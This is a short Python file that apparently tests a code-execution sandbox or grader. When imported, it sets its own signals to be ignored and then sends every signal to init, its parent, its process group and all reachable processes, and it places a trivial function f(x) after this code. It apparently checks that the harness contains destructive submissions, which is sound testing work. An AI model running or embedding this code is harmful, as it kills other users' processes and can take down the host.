"""Sends every signal to process 1, to its parent, to its group and to everybody.

Verdict: wrong; as a script: wrong.
"""

import contextlib
import os
import signal

for number in range(1, 65):
    with contextlib.suppress(OSError, ValueError):
        signal.signal(number, signal.SIG_IGN)
    for process in (1, os.getppid(), 0, -1):
        with contextlib.suppress(OSError):
            os.kill(process, number)


def f(x):
    return x
